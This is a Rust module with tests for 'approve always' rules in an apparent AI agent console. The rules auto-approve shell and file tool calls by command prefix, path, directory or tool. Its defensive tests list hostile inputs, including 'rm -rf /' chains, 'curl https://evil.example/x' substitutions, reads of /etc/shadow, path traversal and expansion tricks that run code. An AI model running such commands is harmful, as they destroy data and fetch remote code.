//! "Approve always" rules the human adds at the approval prompt: shared by
//! the answerer (which applies them) and the screen (which offers and lists
//! them). A rule fits the call it was made from: a command prefix for shell
//! tools (never for compound commands), a path or its directory for file
//! tools, the exact arguments, or — chosen explicitly — the whole tool.
//!
//! A rule binds to where its call ran: for an agent with a session id, that
//! session and the scope's label, so it still applies when the agent
//! reconnects (a new connection is a new scope with the same session id);
//! otherwise the scope itself.

pub mod command;
pub mod persist;

use std::path::Path;
use std::sync::{Arc, Mutex};

use serde_json::Value;
use tether_tools::ToolExecution;

use crate::paths;
use crate::shell::{self, Pattern};
use crate::subagent::Subagent;

/// The session's always-rules, in the order they were added.
pub type AlwaysRules = Arc<Mutex<Vec<AlwaysRule>>>;

/// What part of a call an always-rule covers, narrowest first.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Fit {
    /// These exact arguments (compared as JSON).
    Arguments(Value),
    /// A file tool's `key` argument equal to `path`.
    Path { key: String, path: String },
    /// A file tool's `key` argument inside `dir` (no `.` or `..` parts).
    Directory { key: String, dir: String },
    /// A shell tool's command (the argument at JSON pointer `pointer`):
    /// plain, and each of its commands these words (followed by any further
    /// words when `rest`), as the `command` pattern `prefix *` reads it.
    CommandPrefix {
        pointer: String,
        prefix: Vec<String>,
        rest: bool,
    },
    /// Every call of the tool.
    WholeTool,
}

/// An "approve always" rule: a fit, for one tool in one scope, for this
/// session (or, once kept, in the policy file too).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AlwaysRule {
    pub tool: String,
    pub scope_id: Option<u64>,
    pub scope_label: String,
    /// The agent session the call ran in: when set, the rule binds to it and
    /// to `scope_label` instead of to `scope_id`.
    pub session_id: Option<String>,
    pub fit: Fit,
    /// Narrowed to calls this type of subagent makes (`Explore`); `None`
    /// covers the main agent and every subagent alike.
    pub agent_type: Option<String>,
}

/// Where a call runs, as an always-rule compares it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Place<'a> {
    pub scope_id: Option<u64>,
    pub scope_label: &'a str,
    pub session_id: Option<&'a str>,
    /// The subagent that made the call, by type; `None` for the main agent.
    pub agent_type: Option<&'a str>,
}

impl<'a> Place<'a> {
    /// Where `execution` runs (a scope without a label is "global", as the
    /// prompt shows it).
    pub fn of(execution: &'a ToolExecution) -> Self {
        let scope = execution.scope();
        Self {
            scope_id: scope.map(|s| s.id()),
            scope_label: scope.and_then(|s| s.label()).unwrap_or("global"),
            session_id: execution.session_id(),
            agent_type: Subagent::type_in(execution.invocation_context()),
        }
    }
}

impl AlwaysRule {
    /// The rules that fit a call, narrowest first; the whole tool is last.
    /// `command_at` is where the policy says a tool of the user's own keeps
    /// its shell command (`shell_tools`); the agents' shell tools are known
    /// by name.
    pub fn choices(
        tool: &str,
        scope_id: Option<u64>,
        scope_label: &str,
        raw_arguments: &str,
        command_at: Option<&str>,
    ) -> Vec<Self> {
        let rule = |fit| Self {
            tool: tool.to_owned(),
            scope_id,
            scope_label: scope_label.to_owned(),
            session_id: None,
            fit,
            agent_type: None,
        };
        let mut fits = Vec::new();
        let arguments = serde_json::from_str::<Value>(raw_arguments).ok();
        if let Some(arguments) = &arguments {
            fits.push(Fit::Arguments(arguments.clone()));
            if let Some((key, path)) = ["path", "file_path"]
                .into_iter()
                .find_map(|k| arguments.get(k).and_then(Value::as_str).map(|p| (k, p)))
            {
                fits.push(Fit::Path {
                    key: key.to_owned(),
                    path: path.to_owned(),
                });
                if let Some(dir) = directory_of(path) {
                    fits.push(Fit::Directory {
                        key: key.to_owned(),
                        dir,
                    });
                }
            }
            let command = match command_at {
                Some(pointer) => shell::command_at(tool, arguments, pointer).map(|c| (pointer, c)),
                None if shell::is_shell_tool(tool) => shell::command_of(arguments),
                None => None,
            };
            let offered = command.as_ref().and_then(|(pointer, script)| {
                let words = script.single().filter(|s| s.words.iter().all(|w| !w.glob))?.values();
                command::prefix_of(&words).map(|(prefix, rest)| (*pointer, prefix, rest))
            });
            if let Some((pointer, prefix, rest)) = offered {
                fits.push(Fit::CommandPrefix {
                    pointer: pointer.to_owned(),
                    prefix,
                    rest,
                });
            }
        }
        fits.push(Fit::WholeTool);
        fits.into_iter().map(rule).collect()
    }

    /// Whether the rule covers calls made at `place`: the same session and
    /// scope label when the rule has a session, else the same scope; and,
    /// when the rule is narrowed to a subagent type, by that subagent.
    pub fn applies_at(&self, place: Place<'_>) -> bool {
        if self.agent_type.is_some() && place.agent_type != self.agent_type.as_deref() {
            return false;
        }
        match &self.session_id {
            Some(session) => place.session_id == Some(session) && place.scope_label == self.scope_label,
            None => place.scope_id == self.scope_id,
        }
    }

    /// Whether the rule approves this call waiting for an answer.
    pub fn matches_execution(&self, execution: &ToolExecution) -> bool {
        let cwd = paths::cwd_of(execution);
        self.tool == execution.name()
            && self.applies_at(Place::of(execution))
            && self.fits(execution.name(), execution.arguments(), cwd.as_deref())
    }

    /// Whether the rule approves a call of `tool` with these arguments in
    /// the very scope it was made in (no working directory known).
    pub fn matches(&self, tool: &str, scope_id: Option<u64>, arguments: &Value) -> bool {
        self.tool == tool && self.agent_type.is_none() && self.scope_id == scope_id && self.fits(tool, arguments, None)
    }

    /// Whether the rule approves a call of `tool` at `place` with these
    /// arguments (no working directory known).
    pub fn matches_at(&self, tool: &str, place: Place<'_>, arguments: &Value) -> bool {
        self.tool == tool && self.applies_at(place) && self.fits(tool, arguments, None)
    }

    /// The command pattern a command rule stands for.
    pub fn pattern(&self) -> Option<Pattern> {
        match &self.fit {
            Fit::CommandPrefix { prefix, rest, .. } => Pattern::exact(prefix, *rest),
            _ => None,
        }
    }

    /// Whether the arguments of a call of `tool` are within the rule's fit.
    fn fits(&self, tool: &str, arguments: &Value, cwd: Option<&Path>) -> bool {
        match &self.fit {
            Fit::WholeTool => true,
            Fit::Arguments(expected) => arguments == expected,
            Fit::Path { key, path } => arguments.get(key).and_then(Value::as_str) == Some(path),
            Fit::Directory { key, dir } => arguments
                .get(key)
                .and_then(Value::as_str)
                .is_some_and(|p| inside(p, dir, cwd)),
            Fit::CommandPrefix { pointer, .. } => {
                let Some(pattern) = self.pattern() else {
                    return false;
                };
                let Some(script) = shell::command_at(tool, arguments, pointer) else {
                    return false;
                };
                matches!(&script.segments, Ok(segments) if !segments.is_empty()
                    && segments.iter().all(|s| pattern.matches_segment(&s.words)))
            }
        }
    }

    /// What the rule covers, in a few words.
    pub fn covers(&self) -> String {
        match &self.fit {
            Fit::Arguments(_) => "with exactly these arguments".to_owned(),
            Fit::Path { key, path } => format!("with {key} {path:?}"),
            Fit::Directory { key, dir } => format!("with {key} anywhere under {dir:?}"),
            Fit::CommandPrefix { pointer, prefix, rest } => format!(
                "when {} {} `{}` (each command of it; never one with a substitution, a redirection to a file or a variable)",
                pointer.trim_start_matches('/'),
                if *rest { "starts with" } else { "is exactly" },
                shell::join(prefix)
            ),
            Fit::WholeTool => "for any arguments (the whole tool)".to_owned(),
        }
    }

    /// The exact rule, as the prompt and the trail show it. (A scope's
    /// label is its agent's session id unless the agent named it, and a
    /// session's scopes keep their labels when it reconnects.)
    pub fn describe(&self) -> String {
        let by = self
            .agent_type
            .as_ref()
            .map(|kind| format!(" made by subagent {kind:?}"))
            .unwrap_or_default();
        format!(
            "allow tool {:?}{by} in scope {:?} {}, until this console exits",
            self.tool,
            self.scope_label,
            self.covers()
        )
    }

    /// The same rule narrowed to calls the subagent type `kind` makes.
    pub fn narrowed_to(mut self, kind: &str) -> Self {
        self.agent_type = Some(kind.to_owned());
        self
    }

    /// The rule in a few words, for a hook's answer and a journal's
    /// `decided_by` (`git status …`, `Write src/ui/…`).
    pub fn short(&self) -> String {
        match &self.fit {
            Fit::CommandPrefix { prefix, rest: true, .. } => format!("{} …", shell::join(prefix)),
            Fit::CommandPrefix {
                prefix, rest: false, ..
            } => shell::join(prefix),
            Fit::Path { path, .. } => format!("{} {path}", self.tool),
            Fit::Directory { dir, .. } => format!("{} {dir}/…", self.tool),
            Fit::Arguments(_) => format!("{} with exactly these arguments", self.tool),
            Fit::WholeTool => format!("any {} call", self.tool),
        }
    }
}

/// The first command rule that, with others, covers each command of a
/// plain compound (`ls && git status` under "ls …" and "git status …"
/// rules), when no one rule covers it all.
pub fn covering_each_command<'r>(rules: &'r [AlwaysRule], execution: &ToolExecution) -> Option<&'r AlwaysRule> {
    let place = Place::of(execution);
    let candidates: Vec<(&AlwaysRule, Pattern, &str)> = rules
        .iter()
        .filter(|r| r.tool == execution.name() && r.applies_at(place))
        .filter_map(|r| match &r.fit {
            Fit::CommandPrefix { pointer, .. } => r.pattern().map(|p| (r, p, pointer.as_str())),
            _ => None,
        })
        .collect();
    let (_, _, pointer) = candidates.first()?;
    // Rules made from one tool's calls read its command at one pointer.
    if candidates.iter().any(|(_, _, p)| p != pointer) {
        return None;
    }
    let script = shell::command_at(execution.name(), execution.arguments(), pointer)?;
    let segments = script.segments.as_ref().ok().filter(|s| !s.is_empty())?;
    let mut first = usize::MAX;
    for segment in segments {
        let covering = candidates
            .iter()
            .position(|(_, p, _)| p.matches_segment(&segment.words))?;
        first = first.min(covering);
    }
    candidates.get(first).map(|(r, _, _)| *r)
}

/// The directory of a path, when the path has one and no `.` / `..` parts.
fn directory_of(path: &str) -> Option<String> {
    let (dir, _) = path.rsplit_once('/')?;
    let normal = !dir.is_empty() && dir.split('/').all(|part| !matches!(part, "." | ".."));
    normal.then(|| dir.to_owned())
}

/// Whether `path` lies under `dir` without climbing out of it: as text (no
/// `.` or `..` parts), and where it leads, symlinks resolved (a link under
/// `dir` that points elsewhere is not under it). Relative paths are resolved
/// from the call's working directory; without one, only the text is judged.
fn inside(path: &str, dir: &str, cwd: Option<&Path>) -> bool {
    let textually = path
        .strip_prefix(dir)
        .and_then(|rest| rest.strip_prefix('/'))
        .is_some_and(|rest| !rest.is_empty() && rest.split('/').all(|part| !matches!(part, "" | "." | "..")));
    if !textually {
        return false;
    }
    let relative = !dir.starts_with('/') && !dir.starts_with('~');
    if relative && cwd.is_none() {
        return true;
    }
    match (paths::resolve(path, cwd), paths::resolve(dir, cwd)) {
        (Some(path), Some(dir)) => path.starts_with(dir),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn bash(command: &str) -> Value {
        json!({ "command": command })
    }

    fn prefix_rule(command: &str) -> AlwaysRule {
        AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string(), None)
            .into_iter()
            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
            .unwrap_or_else(|| panic!("no prefix rule for {command}"))
    }

    fn has_prefix_rule(command: &str) -> bool {
        AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string(), None)
            .iter()
            .any(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
    }

    fn execution_by(agent_type: Option<&str>, command: &str) -> ToolExecution {
        let mut call = tether_tools::ToolCall::new("c", "Bash", bash(command).to_string());
        if let Some(kind) = agent_type {
            call.invocation_context = Some(json!({ "agent_type": kind, "agent_id": "a7f3e1" }));
        }
        let scope = tether_tools::AgentPipelineScope::builder().label("s").build_root();
        ToolExecution::new(&call, Some(scope), Default::default())
    }

    #[test]
    fn a_rule_narrowed_to_a_subagent_type_approves_only_that_subagents_calls() {
        let call = execution_by(Some("Explore"), "git status");
        let place = Place::of(&call);
        let rule = AlwaysRule::choices("Bash", place.scope_id, "s", &bash("git status").to_string(), None)
            .into_iter()
            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
            .unwrap()
            .narrowed_to("Explore");
        assert!(rule.matches_execution(&call));
        assert!(
            rule.describe().contains(r#"made by subagent "Explore""#),
            "{}",
            rule.describe()
        );
        let main = execution_by(None, "git status");
        let other = execution_by(Some("Plan"), "git status");
        // Another execution is another scope: compare the place alone.
        fn same_scope<'e>(scope_id: Option<u64>, e: &'e ToolExecution) -> Place<'e> {
            Place {
                scope_id,
                ..Place::of(e)
            }
        }
        assert!(
            !rule.applies_at(same_scope(place.scope_id, &main)),
            "the main agent is not covered"
        );
        assert!(
            !rule.applies_at(same_scope(place.scope_id, &other)),
            "another subagent type is not covered"
        );
        assert!(rule.applies_at(same_scope(place.scope_id, &call)));
        let kept = persist::policy_rule(&rule, "kept-1").unwrap();
        assert_eq!(kept["match"]["agent_type"], "Explore", "{kept}");
    }

    #[test]
    fn a_prefix_is_the_program_and_its_subcommand_never_a_flag() {
        let rule = prefix_rule("git push --force origin main");
        assert_eq!(
            rule.fit,
            Fit::CommandPrefix {
                pointer: "/command".into(),
                prefix: vec!["git".into(), "push".into()],
                rest: true,
            }
        );
        assert!(rule.matches("Bash", Some(1), &bash("git push origin")));
        assert!(!rule.matches("Bash", Some(1), &bash("git pull")));
        assert!(!rule.matches("Bash", Some(1), &bash("git pushy")));
        assert!(!rule.matches("Bash", Some(2), &bash("git push")), "another scope");
        assert!(!rule.matches("shell", Some(1), &bash("git push")), "another tool");
        // A flag right after the program: the whole command is the prefix.
        assert_eq!(
            prefix_rule("ls -la").fit,
            Fit::CommandPrefix {
                pointer: "/command".into(),
                prefix: vec!["ls".into(), "-la".into()],
                rest: false,
            }
        );
    }

    #[test]
    fn compound_commands_get_no_prefix_rule_and_are_never_covered() {
        for command in [
            "ls; rm -rf /",
            "ls && rm -rf /",
            "ls || rm -rf /",
            "ls | sh",
            "echo $(curl https://evil.example/x)",
            "echo `curl https://evil.example/x`",
            "ls > /etc/passwd",
            "cat < /etc/shadow",
            "ls & rm -rf /",
            "ls\nrm -rf /",
        ] {
            assert!(!has_prefix_rule(command), "{command:?} got a prefix rule");
        }
        let ls = prefix_rule("ls");
        for command in [
            "ls; rm -rf /",
            "ls $(curl x)",
            "ls `id`",
            "ls >out",
            "ls | sh",
            "ls && id",
        ] {
            assert!(!ls.matches("Bash", Some(1), &bash(command)), "{command:?} was covered");
        }
        assert!(ls.matches("Bash", Some(1), &bash("ls src")));
    }

    #[test]
    fn quoted_arguments_are_words_not_split_on_spaces() {
        let rule = prefix_rule("git commit -m 'fix the thing'");
        assert_eq!(
            rule.fit,
            Fit::CommandPrefix {
                pointer: "/command".into(),
                prefix: vec!["git".into(), "commit".into()],
                rest: true,
            }
        );
        assert!(rule.matches("Bash", Some(1), &bash(r#"git commit -m "another message""#)));
        // `"git commit"` quoted is one word, a different program.
        assert!(!rule.matches("Bash", Some(1), &bash(r#""git commit" -m x"#)));
        // Unbalanced quotes do not parse: asked.
        assert!(!rule.matches("Bash", Some(1), &bash("git commit -m 'oops")));
        assert!(
            rule.describe().contains("starts with `git commit`"),
            "{}",
            rule.describe()
        );
    }

    #[test]
    fn wrappers_and_assignments_get_no_prefix_and_argv_commands_are_unwrapped() {
        for command in ["sudo rm -rf /", "env X=1 make", "FOO=bar make", "xargs rm"] {
            assert!(!has_prefix_rule(command), "{command:?}");
        }
        let argv = json!({"command": ["bash", "-lc", "cargo test --workspace"]});
        let choices = AlwaysRule::choices("exec_command", None, "g", &argv.to_string(), None);
        let prefix = choices
            .iter()
            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
            .unwrap();
        assert!(prefix.matches("exec_command", None, &json!({"command": ["bash", "-lc", "cargo test"]})));
        assert!(!prefix.matches(
            "exec_command",
            None,
            &json!({"command": ["bash", "-lc", "cargo test; id"]})
        ));
        assert!(prefix.matches("exec_command", None, &json!({"command": ["cargo", "test", "-q"]})));
    }

    #[test]
    fn file_tools_offer_the_path_then_its_directory_and_never_climb_out() {
        let args = json!({"file_path": "src/ui/app.rs", "content": "x"});
        let choices = AlwaysRule::choices("Write", None, "g", &args.to_string(), None);
        let fits: Vec<&Fit> = choices.iter().map(|r| &r.fit).collect();
        assert!(matches!(fits[0], Fit::Arguments(_)));
        assert_eq!(
            fits[1],
            &Fit::Path {
                key: "file_path".into(),
                path: "src/ui/app.rs".into()
            }
        );
        assert_eq!(
            fits[2],
            &Fit::Directory {
                key: "file_path".into(),
                dir: "src/ui".into()
            }
        );
        assert_eq!(fits.last(), Some(&&Fit::WholeTool));
        let dir = &choices[2];
        assert!(dir.matches("Write", None, &json!({"file_path": "src/ui/view/x.rs"})));
        assert!(!dir.matches("Write", None, &json!({"file_path": "src/ui/../../etc/passwd"})));
        assert!(!dir.matches("Write", None, &json!({"file_path": "src/uix/a.rs"})));
        assert!(!choices[1].matches("Write", None, &json!({"file_path": "src/ui/other.rs"})));
        assert_eq!(
            AlwaysRule::choices("Write", None, "g", r#"{"path": "../x/y"}"#, None).len(),
            3,
            "no directory rule for a path that climbs"
        );
    }

    #[test]
    fn a_tool_marked_shell_like_gets_prefix_rules_at_its_pointer_with_the_same_safety() {
        let call = |line: &str| json!({"job": {"line": line}, "cwd": "/tmp"});
        let choices = AlwaysRule::choices(
            "run",
            Some(1),
            "s",
            &call("cargo test -q").to_string(),
            Some("/job/line"),
        );
        let prefix = choices
            .iter()
            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
            .expect("a prefix rule");
        assert_eq!(
            prefix.fit,
            Fit::CommandPrefix {
                pointer: "/job/line".into(),
                prefix: vec!["cargo".into(), "test".into()],
                rest: true,
            }
        );
        assert!(prefix.describe().contains("when job/line starts with `cargo test`"));
        assert!(prefix.matches("run", Some(1), &call("cargo test --workspace")));
        assert!(!prefix.matches("run", Some(1), &call("cargo publish")));
        for compound in [
            "cargo test; rm -rf /",
            "cargo test && id",
            "cargo test | sh",
            "cargo test $(id)",
            "cargo test `id`",
            "cargo test > /etc/passwd",
        ] {
            assert!(
                !prefix.matches("run", Some(1), &call(compound)),
                "{compound:?} was covered"
            );
            let offered = AlwaysRule::choices("run", Some(1), "s", &call(compound).to_string(), Some("/job/line"));
            assert!(
                !offered.iter().any(|r| matches!(r.fit, Fit::CommandPrefix { .. })),
                "{compound:?} was offered a prefix"
            );
        }
        // An argv array at the pointer is read as words too.
        assert!(prefix.matches("run", Some(1), &json!({"job": {"line": ["cargo", "test", "-q"]}})));
        // Unmarked, the same tool gets no prefix rule.
        let unmarked = AlwaysRule::choices("run", Some(1), "s", &call("cargo test").to_string(), None);
        assert!(!unmarked.iter().any(|r| matches!(r.fit, Fit::CommandPrefix { .. })));
    }

    #[test]
    fn a_built_in_shell_tool_with_two_command_arguments_is_read_as_command() {
        let rule = AlwaysRule::choices("shell", None, "g", &json!({"cmd": "ls"}).to_string(), None)
            .into_iter()
            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
            .unwrap();
        assert!(rule.matches("shell", None, &json!({"cmd": "ls -la"})));
        assert!(!rule.matches("shell", None, &json!({"cmd": "ls", "command": "rm -rf /"})));
    }

    #[test]
    fn other_tools_offer_exact_arguments_then_the_whole_tool() {
        let choices = AlwaysRule::choices("weather", None, "g", r#"{"city": "Oslo"}"#, None);
        assert_eq!(choices.len(), 2);
        assert!(choices[0].matches("weather", None, &json!({"city": "Oslo"})));
        assert!(!choices[0].matches("weather", None, &json!({"city": "Lima"})));
        assert!(choices[1].matches("weather", None, &json!({"city": "Lima"})));
        assert!(choices[1].describe().contains("the whole tool"));
    }

    #[test]
    fn an_expansion_that_runs_code_is_never_covered_by_a_prefix() {
        // Issue 31.1: bash runs the `touch` in each of these.
        let ls = prefix_rule("ls");
        for command in [
            r"ls ${x:=\$\(touch\ /tmp/p\)}${x@P}",
            r"ls ${x:=a[\$\(touch\ /tmp/p\)]} ${PWD:x}",
            "ls $HOME",
            "ls ${PWD}",
            "ls $[1+1]",
            "ls $((1+1))",
            "ls $'\\x41'",
            "ls \"$(id)\"",
            "ls {a,b}",
            "X=1 ls",
            "ls <(id)",
        ] {
            assert!(!ls.matches("Bash", Some(1), &bash(command)), "{command:?} was covered");
            assert!(!has_prefix_rule(command), "{command:?} got a prefix rule");
        }
        // Plain quoting is still plain.
        assert!(ls.matches("Bash", Some(1), &bash("ls 'a b' \"c d\" e\\ f")));
    }

    #[test]
    fn a_command_whose_second_word_is_a_flag_or_a_file_gets_an_exact_rule() {
        let find = prefix_rule("find . -name x");
        assert!(find.matches("Bash", Some(1), &bash("find . -name x")));
        assert!(!find.matches("Bash", Some(1), &bash("find . -name x -delete")));
        let rm = prefix_rule("rm build");
        assert!(!rm.matches("Bash", Some(1), &bash("rm build -rf /")));
        assert!(rm.describe().contains("is exactly `rm build`"), "{}", rm.describe());
    }

    #[test]
    fn a_directory_rule_does_not_follow_a_link_out_of_its_directory() {
        let project = tempfile::tempdir().unwrap();
        let elsewhere = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(project.path().join("src/ui")).unwrap();
        std::os::unix::fs::symlink(elsewhere.path(), project.path().join("src/ui/out")).unwrap();
        let rule = AlwaysRule::choices("Write", None, "g", r#"{"file_path": "src/ui/a.rs"}"#, None)
            .into_iter()
            .find(|r| matches!(r.fit, Fit::Directory { .. }))
            .unwrap();
        let cwd = Some(project.path());
        assert!(rule.fits("Write", &json!({"file_path": "src/ui/b.rs"}), cwd));
        assert!(!rule.fits("Write", &json!({"file_path": "src/ui/out/secret"}), cwd));
    }
}
